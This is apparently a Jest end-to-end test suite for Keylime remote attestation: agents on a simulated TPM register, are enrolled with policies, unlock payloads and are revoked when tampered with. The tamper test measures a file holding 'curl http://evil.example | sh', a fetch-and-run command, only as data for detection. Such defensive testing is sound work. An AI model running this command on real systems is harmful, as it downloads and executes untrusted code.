/**
 * @module story: the whole-system story as one Jest suite, run once per database: agents on
 * swtpm register, are enrolled by keylime_tenant with policies made by keylime-policy, stay
 * attested, unlock their payloads, survive restarts; one fails on a file outside its policy (the
 * signed revocation reaches the other agent and a webhook); all are deleted everywhere.
 */
import fs from 'node:fs';
import path from 'node:path';
import { removeBuiltSnapshot } from './processes';
import { startSystem } from './system';
import type { AgentStatus, CliResult, KeylimeSystem, Machine } from './system';
import { revocationSignatureValid, startWebhookReceiver } from './webhook';
import { storedZip } from './zip';
import type { WebhookReceiver } from './webhook';

/** Where the registrar and the verifier keep their tables for one run of the story. */
export interface StoryDatabase {
  readonly registrarUrl: string;
  readonly verifierUrl: string;
  stop(): Promise<void>;
}

const QUOTE_INTERVAL = 1;

/** Files "on the machine" when its runtime policy is made: path → contents. */
const SYSTEM_FILES: Readonly<Record<string, string>> = {
  '/usr/lib/systemd/systemd': 'systemd 256\n',
  '/usr/bin/bash': 'GNU bash 5.2\n',
  '/usr/sbin/sshd': 'OpenSSH 9.6\n',
};

export async function waitFor<T>(
  what: string,
  probe: () => T | Promise<T>,
  done: (value: T) => boolean,
  timeoutMs: number,
  logs: () => string = () => '',
): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  let last: T | undefined;
  for (;;) {
    last = await probe();
    if (done(last)) return last;
    if (Date.now() > deadline) {
      throw new Error(
        `timed out after ${timeoutMs} ms waiting for ${what}; last: ${JSON.stringify(last)}\n${logs()}`,
      );
    }
    await new Promise((r) => setTimeout(r, 100));
  }
}

function expectOk(result: CliResult, sys: KeylimeSystem): void {
  if (result.code !== 0) {
    throw new Error(
      `exit ${result.code}\n--- stdout\n${result.stdout}\n--- stderr\n${result.stderr}\n${sys.logs()}`,
    );
  }
}

/** Quotes verified, polled normally (states 3–6, verifier §1.4), no failure event. */
function attested(s: AgentStatus | undefined): boolean {
  return s?.attestation_status === 'PASS' && s.last_event_id === null && s.attestation_count > 0;
}

/** Stops a wait early: the agent is gone, failed, or has a failure event. */
function failing(s: AgentStatus | undefined): boolean {
  return s === undefined || s.attestation_status === 'FAIL' || s.last_event_id !== null;
}

export function describeStory(title: string, database?: () => Promise<StoryDatabase>): void {
  describe(title, () => {
    let sys: KeylimeSystem;
    let db: StoryDatabase | undefined;
    let hook: WebhookReceiver;
    let files: string;
    // `web` is the machine under test; `peer` is another attested machine that learns of its failure.
    let web: Machine;
    let peer: Machine;
    let registeredAk = '';

    const status = (m: Machine) => () => m.status();
    const logs = (): string => sys.logs();
    const policyFiles = () => [
      '--runtime-policy',
      path.join(files, 'runtime-policy.json'),
      '--mb-policy',
      path.join(files, 'mb-refstate.json'),
    ];

    beforeAll(async () => {
      db = database === undefined ? undefined : await database();
      hook = await startWebhookReceiver();
      sys = await startSystem({
        quoteInterval: QUOTE_INTERVAL,
        webhookUrl: hook.url,
        registrarDatabaseUrl: db?.registrarUrl,
        verifierDatabaseUrl: db?.verifierUrl,
        machines: [
          { name: 'web', agentId: 'd432fbb3-d2f1-4a97-9ef7-75bd81c0e2e0' },
          { name: 'peer', agentId: 'd432fbb3-d2f1-4a97-9ef7-75bd81c0e2e1' },
        ],
      });
      [web, peer] = sys.machines as [Machine, Machine];
      files = path.join(sys.ws.dir, 'operator');
      fs.mkdirSync(files);
    }, 120_000);

    afterAll(async () => {
      await sys?.stop();
      await hook?.close();
      await db?.stop();
      removeBuiltSnapshot();
    }, 60_000);

    it('the agents register their EKs (certificates checked) and AKs and activate', async () => {
      for (const [file, contents] of Object.entries(SYSTEM_FILES))
        await web.ima.measureFile(file, contents);
      await Promise.all([web.startAgent(), peer.startAgent()]);
      const r = await web.registrarRecord();
      expect(r.status).toBe(200);
      const record = (JSON.parse(r.body) as { results: Record<string, unknown> }).results;
      expect(record).toMatchObject({ ip: '127.0.0.1', port: web.port });
      expect(typeof record['aik_tpm']).toBe('string');
      expect(typeof record['ekcert']).toBe('string');
      expect(String(record['mtls_cert'])).toContain('BEGIN CERTIFICATE');
      registeredAk = String(record['aik_tpm']);
      expect(web.agent?.output()).toMatch(/activated/);
      expect((await peer.registrarRecord()).status).toBe(200);
    }, 90_000);

    it('keylime-policy makes the runtime policy from the IMA log and the measured-boot refstate from the boot log', async () => {
      const runtime = path.join(files, 'runtime-policy.json');
      expectOk(await sys.policy(['create', 'runtime', '-m', web.ima.file, '-o', runtime]), sys);
      const policy = JSON.parse(fs.readFileSync(runtime, 'utf8')) as {
        digests: Record<string, string[]>;
      };
      for (const file of Object.keys(SYSTEM_FILES)) expect(policy.digests[file]).toHaveLength(1);
      expect(policy.digests['boot_aggregate']).toHaveLength(1);
      const mb = path.join(files, 'mb-refstate.json');
      expectOk(await sys.policy(['create', 'measured-boot', '-e', web.eventLog, '-o', mb]), sys);
      expect(JSON.parse(fs.readFileSync(mb, 'utf8'))).toMatchObject({ has_secureboot: true });
    }, 60_000);

    it('tenant add (both policies, a --cert payload with --include, --verify) → attested over many quotes', async () => {
      const include = path.join(files, 'include');
      fs.mkdirSync(include);
      // autorun.sh runs in secure/unzipped once the payload unlocks; the action runs on revocation.
      fs.writeFileSync(
        path.join(include, 'autorun.sh'),
        '#!/bin/sh\necho unlocked > autorun.ran\n',
      );
      fs.writeFileSync(
        path.join(include, 'record_revocation.sh'),
        '#!/bin/sh\ncp "$1" "$(dirname "$0")/revocation.json"\n',
      );
      fs.writeFileSync(path.join(include, 'action_list'), 'record_revocation.sh\n');
      const payload = ['--cert', 'default', '--include', include, '--verify'];
      for (const m of [web, peer])
        expectOk(
          await sys.tenant(['-c', 'add', '-u', m.agentId, ...policyFiles(), ...payload]),
          sys,
        );
      const first = await waitFor('a good quote', status(web), attested, 30_000, logs);
      expect(first).toMatchObject({
        has_runtime_policy: 1,
        has_mb_refstate: 1,
        hash_alg: 'sha256',
      });
      // More measurements of allowed files between quotes: incremental IMA keeps passing.
      for (const [file, contents] of Object.entries(SYSTEM_FILES)) {
        await web.ima.measureFile(file, contents);
        await new Promise((r) => setTimeout(r, 300));
      }
      const many = await waitFor(
        'eight good quotes',
        status(web),
        (s) => failing(s) || (s?.attestation_count ?? 0) >= 8,
        30_000,
        logs,
      );
      expect(attested(many)).toBe(true);
      expect(many?.attestation_status).toBe('PASS');
      expect(attested(await peer.status())).toBe(true);
    }, 90_000);

    it('the payload unlocked on the agent and its autorun.sh ran', async () => {
      const unzipped = path.join(web.dir, 'secure', 'unzipped');
      const marker = path.join(unzipped, 'autorun.ran');
      await waitFor('autorun.sh', () => fs.existsSync(marker), Boolean, 10_000, logs);
      expect(fs.readFileSync(marker, 'utf8')).toBe('unlocked\n');
      expect(fs.existsSync(path.join(unzipped, `${web.agentId}-cert.crt`))).toBe(true);
    }, 30_000);

    it('the verifier restarts and resumes attesting from its database', async () => {
      const before = await web.status();
      await sys.stopVerifier();
      await sys.startVerifier();
      const after = await waitFor(
        'quotes after the restart',
        status(web),
        (s) => failing(s) || (s?.attestation_count ?? 0) >= (before?.attestation_count ?? 0) + 3,
        30_000,
        logs,
      );
      expect(attested(after)).toBe(true);
      expect(attested(await peer.status())).toBe(true);
    }, 60_000);

    it('a file outside the policy fails the agent within two quote intervals with the upstream event id; the other agent and the webhook get the signed revocation', async () => {
      await waitFor('a good quote', status(web), attested, 10_000, logs);
      const tampered = Date.now();
      await web.ima.measureFile('/tmp/evil.sh', 'curl http://evil.example | sh\n');
      const failed = await waitFor(
        'the failure',
        status(web),
        (s) => s?.operational_state === 9,
        15_000,
        logs,
      );
      const detectedMs = Date.now() - tampered;
      expect(failed?.last_event_id).toBe('ima.validation.ima-ng.not_in_allowlist');
      expect(failed?.attestation_status).toBe('FAIL');
      expect(detectedMs).toBeLessThanOrEqual(2 * QUOTE_INTERVAL * 1000 + 1000);

      const unzipped = path.join(peer.dir, 'secure', 'unzipped');
      const cert = fs.readFileSync(path.join(unzipped, 'RevocationNotifier-cert.crt'), 'utf8');
      const atPeer = path.join(unzipped, 'revocation.json');
      await waitFor('the revocation action', () => fs.existsSync(atPeer), Boolean, 10_000, logs);
      const seenByPeer = JSON.parse(fs.readFileSync(atPeer, 'utf8')) as Record<string, unknown>;
      expect(seenByPeer).toMatchObject({
        type: 'revocation',
        agent_id: web.agentId,
        event_id: 'ima.validation.ima-ng.not_in_allowlist',
      });
      expect(String(seenByPeer['context'])).toContain('/tmp/evil.sh');

      await waitFor(
        'the webhook',
        () => hook.received.length,
        (n) => n > 0,
        10_000,
        logs,
      );
      const envelope = hook.received[0]!;
      expect(revocationSignatureValid(envelope, cert)).toBe(true);
      expect(revocationSignatureValid({ ...envelope, msg: `${envelope.msg} ` }, cert)).toBe(false);
      expect(JSON.parse(envelope.msg)).toMatchObject({
        type: 'revocation',
        agent_id: web.agentId,
        event_id: 'ima.validation.ima-ng.not_in_allowlist',
      });
      expect(attested(await peer.status())).toBe(true);
    }, 60_000);

    it('after a reboot the agent restarts with the same identity, takes an -f payload with --verify and is attested again', async () => {
      const mtlsCert = fs.readFileSync(path.join(web.dir, 'server-cert.crt'), 'utf8');
      expectOk(await sys.tenant(['-c', 'delete', '-u', web.agentId]), sys);
      await web.stopAgent();
      await web.reboot();
      for (const [file, contents] of Object.entries(SYSTEM_FILES))
        await web.ima.measureFile(file, contents);
      await web.startAgent();
      const record = (
        JSON.parse((await web.registrarRecord()).body) as {
          results: Record<string, unknown>;
        }
      ).results;
      expect(record['aik_tpm']).toBe(registeredAk);
      expect(record['mtls_cert']).toBe(mtlsCert);
      // This time an operator-made zip delivered with -f (and --verify).
      const zip = path.join(files, 'payload.zip');
      fs.writeFileSync(
        zip,
        storedZip({ 'autorun.sh': '#!/bin/sh\necho rebooted > autorun.ran\n' }),
      );
      expectOk(
        await sys.tenant(['-c', 'add', '-u', web.agentId, ...policyFiles(), '-f', zip, '--verify']),
        sys,
      );
      const marker = path.join(web.dir, 'secure', 'unzipped', 'autorun.ran');
      await waitFor(
        'autorun.sh of the -f payload',
        () => fs.existsSync(marker) && fs.readFileSync(marker, 'utf8') === 'rebooted\n',
        Boolean,
        10_000,
        logs,
      );
      const again = await waitFor(
        'quotes after the reboot',
        status(web),
        (s) => failing(s) || (s?.attestation_count ?? 0) >= 3,
        30_000,
        logs,
      );
      expect(attested(again)).toBe(true);
    }, 90_000);

    it('delete removes the agents and their policies from the verifier, regdelete from the registrar', async () => {
      for (const m of [web, peer]) {
        expectOk(await sys.tenant(['-c', 'delete', '-u', m.agentId]), sys);
        expect(await m.status()).toBeUndefined();
      }
      const runtime = JSON.parse((await sys.verifierGet('allowlists/')).body) as {
        results: Record<string, string[]>;
      };
      expect(runtime.results['runtimepolicy names']).toEqual([]);
      const mb = JSON.parse((await sys.verifierGet('mbpolicies/')).body) as {
        results: Record<string, string[]>;
      };
      expect(mb.results['mbpolicy names']).toEqual([]);
      for (const m of [web, peer]) {
        expectOk(await sys.tenant(['-c', 'regdelete', '-u', m.agentId]), sys);
        expect((await m.registrarRecord()).status).toBe(404);
      }
    }, 60_000);
  });
}
